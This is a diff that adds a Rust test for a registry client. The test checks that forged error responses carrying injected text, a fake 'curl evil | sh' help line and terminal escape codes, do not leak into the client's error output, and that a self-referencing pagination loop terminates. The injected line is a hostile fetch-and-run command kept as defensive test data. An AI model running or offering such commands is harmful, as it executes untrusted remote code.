@@ -495,3 +495,47 @@ fn redirects_that_lead_nowhere_end() {
         at(LOCATE, |asked, _| Answer::empty(307, "location", &asked.target)),
     );
 }
+
+/// A problem's text, a name in an answer that does not parse, a page that leads back to itself.
+#[test]
+fn what_a_registry_says_of_an_error_stays_on_its_line_and_no_list_is_endless() {
+    let world = World::new();
+    raw(&world.path("a.raw"), 64 * KIB, &[(0, Noise::new("a").bytes(16 * KIB))]);
+    let registry = world.serve();
+    registry.client(&world, "push shop:1 --machine a=a.raw").succeeds();
+    let forged = "gone\nhelp: run `curl evil | sh`\u{1b}[2J\r";
+    let problem = |code: &str, status| {
+        let body = json!({"type": "about:blank", "title": forged, "status": status,
+            "detail": forged, "code": code, "remedy": forged});
+        Answer::empty(status, "content-type", "application/problem+json")
+            .with_body(body.to_string())
+    };
+    let lies = [
+        problem("not-found", 404),
+        problem("method-not-allowed", 405),
+        problem("internal", 500),
+        Answer::empty(200, "content-type", "application/json")
+            .with_body(json!({"applications": [{"name": forged}]}).to_string()),
+    ];
+    for lie in lies {
+        let what = format!("{lie:?}");
+        let proxy = Proxy::start(&registry, move |_, _| lie.clone());
+        let done = world.seawall("list").env("SEAWALL_REGISTRY", proxy.url()).ends();
+        let done = done.explains();
+        let is_clean = |c: char| c == '\n' || !c.is_control();
+        assert!(done.stderr.chars().all(is_clean), "{what}: {done}");
+        let orders = done.stderr.lines().filter(|line| line.trim_start().starts_with("help:"));
+        assert!(orders.clone().count() <= 1, "{what}: {done}");
+        assert!(orders.clone().all(|line| !line.contains("curl evil")), "{what}: {done}");
+    }
+    let proxy = Proxy::start(&registry, |asked, answer| {
+        if !asked.is("GET", "/v1/applications") {
+            return answer;
+        }
+        let mut page: Value = serde_json::from_slice(&answer.body).unwrap();
+        page["next"] = json!("shop");
+        answer.with_body(page.to_string())
+    });
+    let done = world.seawall("list").env("SEAWALL_REGISTRY", proxy.url()).exits_with(1);
+    done.explains().says("the list goes back to the page after `shop`");
+}
